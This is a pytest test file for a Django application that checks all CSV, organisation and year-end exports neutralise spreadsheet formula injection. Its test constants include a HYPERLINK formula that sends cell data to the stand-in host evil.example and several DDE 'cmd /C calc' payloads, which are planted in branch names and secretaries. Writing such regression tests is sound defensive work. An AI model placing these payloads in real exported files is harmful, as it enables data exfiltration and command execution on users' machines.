"""No CSV the project writes holds a cell a spreadsheet would run as a formula (OWASP CSV injection).

Every CSV goes through `branchtrack.web.table_export.csv_writer`; the walk below exports every list page
(found as tests/test_list_pages.py finds them), the organisation and the year-end CSV with names that are
formulas, and checks every cell of every file.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from assessment.models import ExportJob
from branchtrack.web.table_export import PLAIN_NUMBER, csv_cell
from tests.supervision.factories import CampaignFactory
from tests.test_list_pages import list_pages

ROOT = Path(settings.BASE_DIR)
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        (AT_SUM, "'" + AT_SUM),
        (MINUS, "'" + MINUS),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("党支部 = 1", "党支部 = 1"),  # not at the start: nothing runs
        ("", ""),
        (None, ""),
        (-12, "-12"),  # real numbers stay numbers
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        (7, "7"),
        ("-", "'-"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(value, written):
    assert csv_cell(value) == written


def test_no_module_writes_csv_but_through_the_neutralising_writer():
    writers = []
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if (
            relative.startswith((".venv/", "tests/", "bench/"))
            or relative == "branchtrack/web/table_export.py"
        ):
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            writers.append(relative)
    assert writers == []


def cells_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def assert_no_cell_runs(name: str, rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not (
                cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) and not PLAIN_NUMBER.fullmatch(cell)
            ), f"{name}: {cell!r}"


@pytest.fixture
def formula_names(org):
    org.city_branch.name = HYPERLINK
    org.city_branch.secretary = AT_SUM
    org.city_branch.save()
    org.station_branch.name = DDE
    org.station_branch.secretary = MINUS
    org.station_branch.save()
    org.county.name = "=1+1"
    org.county.save()
    return org


def test_every_list_export_neutralises_formulas_and_keeps_them_readable(login, formula_names):
    org = formula_names
    campaign = CampaignFactory(scope=[org.company])
    client = login(org.admin)
    pages = list_pages(client, ids=[campaign.pk])
    assert len(pages) >= 14
    exported = {}
    for path in pages:
        response = client.get(path, {"export": "csv"})
        assert response.status_code == 200, path
        if not response["Content-Type"].startswith("text/csv"):
            continue  # a list without exports
        content = b"".join(response.streaming_content) if response.streaming else response.content
        exported[path] = cells_of(content)
        assert_no_cell_runs(path, exported[path])
    assert len(exported) >= 10
    branches = [row for row in exported[reverse("branch_list")] if row[0] == "B-CITY"]
    assert branches[0][1] == "'" + HYPERLINK
    assert branches[0][4] == "'" + AT_SUM
    assert any("'" + DDE in row for row in exported[reverse("branch_list")])

    # The .xlsx keeps the text exactly as typed, as a string cell (Excel never runs a string cell).
    xlsx = client.get(reverse("branch_list"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content)), read_only=False).active
    names = {cell.value: cell.data_type for cell in sheet["B"]}
    assert names[HYPERLINK] == "s"
    assert names[DDE] == "s"


def test_the_organisation_export_neutralises_formulas(login, formula_names):
    client = login(formula_names.admin)
    response = client.get("/org/export.csv")
    rows = cells_of(response.content)
    assert_no_cell_runs("organisation", rows)
    assert rows_by_code(rows)["B-CITY"][:6] == [
        "党支部",
        "B-CITY",
        "'" + HYPERLINK,
        "C-CITY",
        "",
        "'" + AT_SUM,
    ]
    assert rows_by_code(rows)["C-CTY"][2] == "'=1+1"


def rows_by_code(rows: list[list[str]]) -> dict[str, list[str]]:
    return {row[1]: row for row in rows[1:]}


def test_the_year_end_csv_neutralises_formulas(login, formula_names, django_capture_on_commit_callbacks):
    client = login(formula_names.admin)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("assessment:export_list"),
            {"year": 2020, "scope": formula_names.company.pk, "format": "csv"},
        )
    job = ExportJob.objects.get()
    download = client.get(reverse("assessment:export_download", args=[job.pk]))
    rows = cells_of(b"".join(download.streaming_content))
    assert_no_cell_runs("assessment", rows)
    assert "'" + HYPERLINK in {cell for row in rows for cell in row}
    assert "'=1+1" in {cell for row in rows for cell in row}
